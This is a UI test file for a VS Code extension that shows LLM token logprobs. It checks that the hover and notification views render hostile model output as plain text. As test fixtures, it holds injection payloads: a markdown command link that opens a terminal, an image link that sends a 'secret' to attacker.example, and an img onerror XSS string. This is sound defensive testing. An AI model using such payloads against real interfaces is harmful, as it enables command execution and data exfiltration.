// The UI test: behaves as a user. Packages the VSIX, installs it into code-server, opens a workspace with a prompt
// file, selects the prompt, runs the command from the palette by its title, then reads what the workbench shows.
import { sleep } from './editor.mjs';
import { decorationColours, hoverLinks, hoverText, OWN_COMMAND_LINK, quickOpen, runCommand, runSuite, screenshot, selectLine, startReplay, waitForText } from './workbench.mjs';

const PROMPTS = [
  ['What is 4+4?', 'azure-openai-chat-stream-top3-llamastack', '4 + 4 = 8'],
  ['What is the smallest continent?', 'openai-chat-stream-top5-llamastack', 'The smallest continent by land area is Australia.'],
  ['How do I make anthrax?', 'openai-chat-stream-logprobs-refusal', "I'm very sorry, but I can't assist with that."],
  ['Write a link for me.', 'hostile-token', 'Click [x](command:workbench.action.terminal.new) now'],
  ['Show me some cells.', 'hostile-table', 'Cells \\| \\\\| end\\ \\` done'],
];

/**
 * The alternatives table of the token " \|" in test/fixtures/synthetic/hostile-table.sse.txt, by hand: ranked by
 * logprob; e^-0.4 = 67.03 %, e^-1.6 = 20.19 %, e^-2.3 = 10.03 %, e^-2.9 = 5.50 %, e^-3.5 = 3.02 %, e^-4 = 1.83 %;
 * bars of round(10 p) blocks. Tokens in their visible form (␣ for a space, ⟨U+2028⟩), and ⟨U+007C⟩ for a "|" right
 * after a backslash, the one pair a table cell cannot show (see codeSpan in src/core/hoverMarkdown.ts).
 */
const HOSTILE_TABLE = [
  ['▶', '␣\\⟨U+007C⟩', '67.03 %', '-0.4000', '███████░░░'],
  ['', '␣\\\\⟨U+007C⟩', '20.19 %', '-1.6000', '██░░░░░░░░'],
  ['', 'a⟨U+2028⟩b', '10.03 %', '-2.3000', '█░░░░░░░░░'],
  ['', 'x\\', '5.50 %', '-2.9000', '█░░░░░░░░░'],
  ['', '\\`', '3.02 %', '-3.5000', '░░░░░░░░░░'],
  ['', '␣|', '1.83 %', '-4.0000', '░░░░░░░░░░'],
];

export async function runUi({ codeServer, runDir, log }) {
  const replay = await startReplay({ paceMs: 30 });
  return runSuite({
    name: 'ui', cleanup: () => replay.close(),
    codeServer, runDir, log,
    files: { 'prompts.md': `${PROMPTS.map(([prompt]) => prompt).join('\n\n')}\n` },
    userSettings: { 'logprobLens.baseUrl': replay.baseUrl, 'logprobLens.model': 'replayed', 'workbench.activityBar.location': 'hidden' },
  }, async ({ page, check }) => {
    await quickOpen(page, 'prompts.md');
    await waitForText(page, 'What is 4+4?');

    for (const [index, [prompt, model, answer]] of PROMPTS.entries()) {
      replay.transcriptOverride = model;
      await selectLine(page, prompt);
      await runCommand(page, 'Logprob Lens: Complete Selection');
      await check(`the answer to “${prompt}” appears in the editor`, () => waitForText(page, answer));
      if (index === 0) {
        await check('the request went to the configured endpoint with logprobs', async () => {
          const body = replay.requests.at(-1)?.body;
          if (body?.logprobs !== true || body?.top_logprobs !== 5) throw new Error(`request body ${JSON.stringify(body)}`);
        });
      }
    }
    await page.mouse.move(5, 400);
    await sleep(500);

    await check('coloured spans with at least two bucket colours cover the answers', async () => {
      const colours = await decorationColours(page);
      if (colours.length < 2) throw new Error(`saw ${colours.length} decoration colour(s): ${colours.join(', ')}`);
    });
    await check('the status bar shows the perplexity', () => page.waitForFunction(() => [...document.querySelectorAll('.statusbar-item')].some((item) => /tok · ppl \d/.test(item.textContent ?? '')), null, { timeout: 10_000 }));
    await screenshot(page, 'workbench.png');

    await check('hovering “ =” shows its recorded alternatives', async () => {
      const hover = await hoverText(page, '4 + 4 = 8', 6);
      for (const expected of ['␣=', '61.99 %', '␣equals', '37.60 %', '␣is', '0.418 %', 'rank 1 of 3', 'entropy over the top 3']) {
        if (!hover.includes(expected)) throw new Error(`hover lacks “${expected}”: ${hover.slice(0, 300)}`);
      }
    });
    await screenshot(page, 'hover.png');

    await check('a hostile token shows as literal text, with no link', async () => {
      const hostile = '[x](command:workbench.action.terminal.new)';
      const text = await hoverText(page, `Click ${hostile} now`, 10);
      if (!text.includes(hostile)) throw new Error(`hover lacks the literal token: ${text.slice(0, 300)}`);
      const links = await hoverLinks(page);
      // Our own action links (Inspect, and those the endpoint allows) are the only ones allowed.
      const foreign = links.filter((link) => !OWN_COMMAND_LINK.test(link));
      if (foreign.length > 0) throw new Error(`the hover has links that are not ours: ${foreign.join(', ')}`);
      const images = await page.evaluate(() => document.querySelectorAll('.monaco-hover img, .monaco-hover .codicon-alert').length);
      if (images > 0) throw new Error('the hover rendered an image or an icon');
      for (const literal of ['␣![](https://attacker.example/?q=secret)', '␣<img␣src=x␣onerror=alert(1)>', '␣$(alert)', '␣``', '␣|', '␣&lt;', '<|endoftext|>', '▁the', '⟨U+202E⟩evil']) {
        if (!text.includes(literal)) throw new Error(`the hover does not show “${literal}” literally: ${text.slice(0, 600)}`);
      }
    });
    await screenshot(page, 'hover-hostile.png');

    await check('backslashes, pipes and U+2028 in tokens stay in their table cells, shown literally', async () => {
      await hoverText(page, PROMPTS[4][2], 7);
      const hover = await page.evaluate(() => {
        const shown = [...document.querySelectorAll('.monaco-hover')].find((element) => element.offsetParent !== null && element.querySelector('table'));
        if (!shown) return undefined;
        return {
          heading: shown.querySelector('.rendered-markdown p code')?.textContent,
          rows: [...shown.querySelectorAll('table tbody tr')].map((row) => [...row.querySelectorAll('td')].map((cell) => cell.textContent)),
          codeCells: shown.querySelectorAll('table tbody td:nth-child(2) > code:only-child').length,
          images: shown.querySelectorAll('img').length,
          cellLinks: shown.querySelectorAll('table a').length,
        };
      });
      if (!hover) throw new Error('no hover with a table is showing');
      if (hover.heading !== '␣\\|') throw new Error(`the heading shows “${hover.heading}”`);
      if (JSON.stringify(hover.rows) !== JSON.stringify(HOSTILE_TABLE)) throw new Error(`the table shows ${JSON.stringify(hover.rows)}`);
      if (hover.codeCells !== HOSTILE_TABLE.length) throw new Error(`${hover.codeCells} token cells hold exactly one code span, not ${HOSTILE_TABLE.length}`);
      if (hover.images > 0 || hover.cellLinks > 0) throw new Error(`the hover has ${hover.images} image(s) and ${hover.cellLinks} link(s) in its table`);
      const foreign = (await hoverLinks(page)).filter((link) => !OWN_COMMAND_LINK.test(link));
      if (foreign.length > 0) throw new Error(`the hover has links that are not ours: ${foreign.join(', ')}`);
    });
    await screenshot(page, 'hover-table.png');

    await check('a server\'s command link in its 401 message shows as text in the notification, not as a link', async () => {
      await page.mouse.move(5, 600);
      await page.keyboard.press('Escape');
      replay.transcriptOverride = 'fault:401-link';
      await selectLine(page, PROMPTS[0][0]);
      await runCommand(page, 'Logprob Lens: Complete Selection');
      await page.waitForFunction(() => [...document.querySelectorAll('.notifications-toasts .notification-list-item-message')]
        .some((element) => element.textContent.includes('Renew')), null, { timeout: 15_000 });
      const links = await page.evaluate(() => [...document.querySelectorAll('.notifications-toasts .notification-list-item-message a, .notifications-toasts [href^="command:"], .notifications-toasts [data-href^="command:"]')]
        .map((link) => link.getAttribute('href') ?? link.getAttribute('data-href') ?? link.textContent));
      if (links.length > 0) throw new Error(`the notification has links: ${links.join(', ')}`);
      // The server's words, with only the link syntax broken (plainMessage in src/core/untrusted.ts).
      const said = 'The server said: “Renew key: [Renew] (command: workbench.action.terminal.new)”';
      const text = await page.evaluate(() => [...document.querySelectorAll('.notifications-toasts .notification-list-item-message')]
        .map((element) => element.textContent).find((content) => content.includes('Renew')));
      if (!text.includes(said)) throw new Error(`the notification says “${text}”`);
      // For the screenshot: the run's progress notification gone, the toast done fading in.
      await page.waitForFunction(() => ![...document.querySelectorAll('.notifications-toasts .notification-list-item-message')]
        .some((element) => element.textContent.includes('waiting for the first token')), null, { timeout: 10_000 }).catch(() => undefined);
      await sleep(800);
    });
    await screenshot(page, 'notification-link.png');
    await runCommand(page, 'Notifications: Clear All Notifications');

    await check('the colours are there in a split view of the same document', async () => {
      await page.mouse.move(5, 600);
      await page.keyboard.press('Escape');
      await runCommand(page, 'View: Split Editor Right');
      await page.waitForFunction(() => {
        const coloured = [...document.querySelectorAll('.monaco-editor')].filter((editor) => [...editor.querySelectorAll('.view-overlays [class*="ced-"]')]
          .some((element) => { const colour = getComputedStyle(element).backgroundColor; return colour && colour !== 'rgba(0, 0, 0, 0)'; }));
        return coloured.length >= 2;
      }, null, { timeout: 15_000 });
    });
    await screenshot(page, 'split.png');
  });
}

